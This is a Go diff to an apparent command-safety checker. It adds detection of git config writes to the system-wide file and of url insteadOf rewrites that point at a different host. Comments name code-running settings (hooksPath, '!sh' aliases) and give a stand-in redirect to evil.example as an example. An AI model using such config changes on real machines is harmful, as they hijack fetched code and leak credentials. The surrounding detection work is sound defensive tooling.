@@ -34,25 +34,8 @@ var gitCommandSettings = []string{
 // git run a command later: `git config core.hooksPath x`, `git config
 // --global alias.x '!sh …'`, `git config set core.pager …`.
 func gitConfigCode(c *parse.Command) bool {
-	sub, rest := gitSub(c)
-	if sub != "config" {
-		return false
-	}
-	a := ParseArgs(rest, OptSpec{Short: "f", Long: []string{"file", "blob", "type", "default", "comment", "value"}})
-	if a.Has("l", "get", "get-all", "get-regexp", "get-urlmatch", "unset", "unset-all", "list",
-		"remove-section", "rename-section", "edit", "get-color", "get-colorbool", "show-origin", "show-scope") {
-		return false
-	}
-	ops := a.Operands
-	if len(ops) > 0 {
-		switch ops[0].Value {
-		case "set":
-			ops = ops[1:]
-		case "get", "unset", "list", "edit", "rename-section", "remove-section":
-			return false
-		}
-	}
-	if len(ops) < 2 {
+	a, ops, ok := gitConfigSet(c)
+	if !ok {
 		return false
 	}
 	key, val := ops[0].Value, ops[1].Value
@@ -66,6 +49,42 @@ func gitConfigCode(c *parse.Command) bool {
 		return false
 	}
 	return gitCodeKey(key, val)
+}
+
+// gitConfigSet returns the options and the key and value operands of a
+// git config command that sets a value; ok is false for every other git
+// command and for the ones that read, list or remove.
+func gitConfigSet(c *parse.Command) (*Args, []parse.Word, bool) {
+	sub, rest := gitSub(c)
+	if sub != "config" {
+		return nil, nil, false
+	}
+	a := ParseArgs(rest, OptSpec{Short: "f", Long: []string{"file", "blob", "type", "default", "comment", "value"}})
+	if a.Has("l", "get", "get-all", "get-regexp", "get-urlmatch", "unset", "unset-all", "list",
+		"remove-section", "rename-section", "edit", "get-color", "get-colorbool", "show-origin", "show-scope") {
+		return nil, nil, false
+	}
+	ops := a.Operands
+	if len(ops) > 0 {
+		switch ops[0].Value {
+		case "set":
+			ops = ops[1:]
+		case "get", "unset", "list", "edit", "rename-section", "remove-section":
+			return nil, nil, false
+		}
+	}
+	if len(ops) < 2 {
+		return nil, nil, false
+	}
+	return a, ops, true
+}
+
+// gitConfigSystem reports whether a git command sets a value in the
+// system-wide configuration (/etc/gitconfig), which every user's git
+// reads: a system path, whatever the key.
+func gitConfigSystem(c *parse.Command) bool {
+	a, _, ok := gitConfigSet(c)
+	return ok && a.Has("", "system")
 }
 
 // workTreeDir reports whether a relative path stays inside the work tree
@@ -91,6 +110,13 @@ func gitCodeKey(key, val string) bool {
 		v := strings.TrimLeft(val, " \t")
 		return strings.HasPrefix(v, "!") || strings.Contains(val, parse.Unknown)
 	}
+	if sec == "url" && (name == "insteadof" || name == "pushinsteadof") {
+		// Where every later clone, fetch and push goes, credentials with
+		// it: url.https://evil.example/.insteadOf https://github.com/
+		// swaps the code fetched. The same host by another protocol
+		// (ssh for https) is routine setup.
+		return strings.Contains(val, parse.Unknown) || urlHost(sub) != urlHost(val)
+	}
 	if gitKeyIn(gitPlaceSettings, sec, sub, name) {
 		return true
 	}
@@ -104,6 +130,24 @@ func gitCodeKey(key, val string) bool {
 		}
 	}
 	return riskyCommandValue(val)
+}
+
+// urlHost returns the host of a URL or of an scp-like address
+// (git@github.com:org), lowercased, without user or port.
+func urlHost(u string) string {
+	if _, rest, ok := strings.Cut(u, "://"); ok {
+		u = rest
+	}
+	if i := strings.IndexAny(u, "/"); i >= 0 {
+		u = u[:i]
+	}
+	if i := strings.LastIndex(u, "@"); i >= 0 {
+		u = u[i+1:]
+	}
+	if i := strings.Index(u, ":"); i >= 0 {
+		u = u[:i]
+	}
+	return strings.ToLower(u)
 }
 
 // gitKeyIn reports whether a split key matches one of the patterns.
